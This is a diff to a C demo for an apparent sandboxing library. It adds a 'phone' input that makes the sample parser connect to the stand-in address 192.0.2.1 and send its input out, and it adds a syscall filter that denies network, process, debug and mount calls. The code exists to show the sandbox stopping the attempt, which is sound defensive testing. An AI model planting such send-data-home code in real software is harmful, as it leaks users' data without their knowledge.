@@ -7,17 +7,22 @@
  * parse_and_sum() stands for a plugin entry point or a parser fed untrusted input: it
  * sums the numbers in its input and returns the sum as text. It has bugs on purpose:
  * "loop" makes it spin forever, "grow" makes it allocate without end, "null" makes it
- * dereference NULL. Each input runs in its own sandboxed child with 64M of memory,
- * 1 s of wall time and 0.5 s of CPU; the program prints the verdict of each run and,
- * for a crash, the first lines of the crash report.
+ * dereference NULL, "phone" makes it try to send its input home over TCP. Each input
+ * runs in its own sandboxed child with 64M of memory, 1 s of wall time and 0.5 s of CPU,
+ * and a syscall filter without sockets or new processes; the program prints the verdict
+ * of each run and, for a crash, the first lines of the crash report.
  *
  * Build note: the crash report names parse_and_sum() only because this program is
  * linked with -rdynamic (meson: export_dynamic : true) and the function is visible.
  */
+#include <arpa/inet.h>
 #include <errno.h>
+#include <netinet/in.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
 
 #include "corral.h"
 
@@ -43,6 +48,13 @@ __attribute__((visibility("default"), noinline)) void parse_and_sum(const void *
         if (strstr(text, "null")) {
                 int *volatile p = NULL;
                 *p = 42;
+        }
+        if (strstr(text, "phone")) {
+                struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80) };
+                int fd = socket(AF_INET, SOCK_STREAM, 0);
+                inet_pton(AF_INET, "192.0.2.1", &a.sin_addr);
+                if (fd >= 0 && connect(fd, (struct sockaddr *) &a, sizeof a) == 0)
+                        (void) !write(fd, text, strlen(text));
         }
 
         long sum = 0;
@@ -76,6 +88,10 @@ static void print_verdict(const char *input, const corral_result *r) {
         case CORRAL_STATUS_SIGNALED:
                 printf("died of signal %d\n", r->signal);
                 break;
+        case CORRAL_STATUS_SYSCALL_DENIED:
+                printf("stopped by the filter: %s (nr %d, %s)\n", r->syscall_denied.name, r->syscall_denied.nr,
+                       r->syscall_denied.arch);
+                break;
         default:
                 printf("%s\n", r->error);
         }
@@ -92,7 +108,7 @@ static void print_verdict(const char *input, const corral_result *r) {
 }
 
 int main(int argc, char **argv) {
-        static const char *const defaults[] = { "1 2 3 39", "loop", "grow", "null", "100 -58" };
+        static const char *const defaults[] = { "1 2 3 39", "loop", "grow", "null", "phone", "100 -58" };
         const char *start = "fork";
         corral_policy *p;
         corral_diag diag;
@@ -112,7 +128,7 @@ int main(int argc, char **argv) {
         if (corral_policy_new(&p) < 0)
                 return 1;
         const char *settings[] = { "MemoryMax=64M", "RuntimeMaxSec=1s", "CPUTimeMaxSec=500ms", "TimeoutStopSec=100ms",
-                                   NULL };
+                                   "SystemCallFilter=~@network-io @process @debug @mount", NULL };
         for (const char **s = settings; *s; s++)
                 if (corral_policy_set_assignment(p, *s, &diag) < 0) {
                         fprintf(stderr, "sandbox-fn: %s\n", diag.message);
